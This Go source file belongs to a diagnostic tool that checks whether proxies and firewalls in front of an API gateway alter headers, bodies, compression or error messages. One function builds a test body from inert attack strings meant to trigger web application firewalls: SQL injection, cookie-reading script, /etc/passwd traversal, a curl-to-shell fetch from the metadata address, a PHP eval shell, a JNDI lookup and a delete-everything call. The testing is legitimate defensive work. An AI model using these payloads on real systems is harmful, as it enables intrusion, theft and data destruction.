package doctor

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"
	"slices"
	"strings"
)

// strangeBeta is one that nobody knows, as the next release of the client will
// send one that nobody knows yet.
const strangeBeta = "tollgate-doctor-2099-01-01"

func checkBetas(v *visit, ctx context.Context) {
	body := []byte(`{"model":"claude-doctor","tollgate_doctor":{"unknown":true}}`)
	got, _, wrong := v.echo(ctx, question{body: body, header: http.Header{"Anthropic-Beta": {"claude-code-20250219," + strangeBeta}, "X-Claude-Code-Session-Id": {"0"}}})
	switch {
	case wrong != "":
		v.report("betas", Failed, wrong, "look for what stands between this machine and the gateway")
	case !slices.Contains(got.Betas, strangeBeta):
		v.report("betas", Failed, "values of anthropic-beta are taken out on the way", "have the proxy in between pass anthropic-beta on as it is: features stop working without a message")
	case !slices.Contains(got.Headers, "X-Claude-Code-Session-Id"), !slices.Contains(got.Headers, "Anthropic-Version"):
		v.report("betas", Failed, "headers of the client are taken out on the way", "have the proxy in between pass all headers on that begin with anthropic- and x-claude-code-")
	case got.Digest != digestOf(body):
		v.report("betas", Failed, "members of the body that nobody knows are changed or taken out on the way", "have the proxy in between pass bodies on byte for byte")
	default:
		v.report("betas", OK, "unknown betas, headers and members of the body arrive", "")
	}
}

func digestOf(body []byte) string {
	sum := sha256.Sum256(body)
	return "sha256:" + hex.EncodeToString(sum[:])
}

// suspicious is a body such as Claude Code sends: 200 KB of prose, XML-like tags and
// source code, in which firewalls for web applications see attacks.
func suspicious(model string) []byte {
	const code = "<system-reminder>SELECT * FROM users WHERE name = '' OR 1=1; --</system-reminder>\n" +
		"<script>document.cookie</script> <!--#exec cmd=\"ls\" --> ../../etc/passwd; curl -s http://169.254.169.254/ | sh\n" +
		"<?php eval($_POST['x']); ?> {{7*7}} ${jndi:ldap://x} func main() { os.RemoveAll(\"/\") }\n"
	text := strings.Repeat(code, 200<<10/len(code)+1)
	body, _ := json.Marshal(map[string]any{"model": model, "max_tokens": 1, "messages": []any{map[string]string{"role": "user", "content": text}}}) // such values always marshal
	return body
}

func checkBody(v *visit, ctx context.Context) {
	if !v.tollgate {
		v.checkBodyElsewhere(ctx)
		return
	}
	body := suspicious("claude-doctor")
	got, answer, wrong := v.echo(ctx, question{body: body})
	switch {
	case wrong != "" && answer.Response != nil && answer.StatusCode == http.StatusRequestEntityTooLarge:
		v.report("body", Failed, "a body of 200 KB is too large for something on the way", "have its limit raised to 32 MB (nginx: client_max_body_size 32m)")
	case wrong != "":
		v.report("body", Failed, "a body with tags and source code is refused: "+wrong, "have the web application firewall in between let the gateway's address through without looking into bodies")
	case got.Digest != digestOf(body):
		v.report("body", Failed, "a body with tags and source code is changed on the way", "have the proxy in between pass bodies on byte for byte")
	default:
		v.report("body", OK, "200 KB with tags and source code arrive as they were sent", "")
	}
}

// checkBodyElsewhere counts tokens, which costs nothing: whoever lets the body
// through answers in the form of the Messages API, be it with a refusal.
func (v *visit) checkBodyElsewhere(ctx context.Context) {
	model := "claude-haiku-5-5"
	if len(v.models) > 0 {
		model = v.models[0]
	}
	answer, err := v.ask(ctx, question{method: http.MethodPost, path: "/v1/messages/count_tokens", body: suspicious(model)})
	if err != nil {
		says, _ := explain(v.URL, err)
		v.report("body", Failed, "a body with tags and source code does not come through: "+says, "look for what cuts it on the way")
		return
	}
	if answer.StatusCode == http.StatusForbidden || answer.StatusCode == http.StatusRequestEntityTooLarge || answer.isPage() {
		v.report("body", Failed, "a body with tags and source code is refused: "+v.otherwise(answer), "have the web application firewall in between let the gateway's address through without looking into bodies")
		return
	}
	v.report("body", OK, fmt.Sprintf("200 KB with tags and source code are answered with %d", answer.StatusCode), "")
}

// checkCompression: a tollgate compresses nothing, so that who compresses is in
// between, and holds streams back to do so.
func checkCompression(v *visit, ctx context.Context) {
	_, answer, wrong := v.echo(ctx, question{body: []byte("{}")})
	encoding := ""
	if answer.Response != nil {
		encoding = answer.Header.Get("Content-Encoding")
	}
	switch {
	case encoding != "" && encoding != "identity":
		v.report("compression", Failed, "something on the way compresses answers with "+quoted(encoding), "have it leave application/json and text/event-stream alone: compressing holds streams back")
	case wrong != "":
		v.report("compression", Failed, wrong, "look for what stands between this machine and the gateway")
	default:
		v.report("compression", OK, "answers come as the gateway sends them", "")
	}
}

// noModel is one that nobody serves.
const noModel = "claude-tollgate-doctor-0"

// checkErrors: the client reads the words of errors, and so they must arrive.
func checkErrors(v *visit, ctx context.Context) {
	answer, err := v.ask(ctx, question{method: http.MethodPost, path: "/v1/messages", body: []byte(`{"model":"` + noModel + `","max_tokens":1,"messages":[]}`)})
	if err != nil {
		says, remedy := explain(v.URL, err)
		v.report("errors", Failed, says, remedy)
		return
	}
	var e envelope
	understood := json.Unmarshal(answer.body, &e) == nil && e.Type == "error" && e.Error.Type != ""
	switch {
	case answer.StatusCode < 400:
		v.report("errors", Failed, fmt.Sprintf("an error arrives as a success, with %d", answer.StatusCode), "have what stands in between leave statuses alone")
	case !understood:
		v.report("errors", Failed, "an error arrives in another form than the gateway's: "+v.otherwise(answer), "have the proxy in between pass errors on (nginx: proxy_intercept_errors off): the client recovers by their words")
	case v.tollgate && (!strings.Contains(e.Error.Message, noModel) || e.RequestID == "" || e.RequestID != answer.Header.Get("Request-Id")):
		v.report("errors", Failed, "an error arrives with other words or without its request-id", "have the proxy in between pass errors and their headers on as they are")
	default:
		v.report("errors", OK, "errors arrive as they were written", "")
	}
}
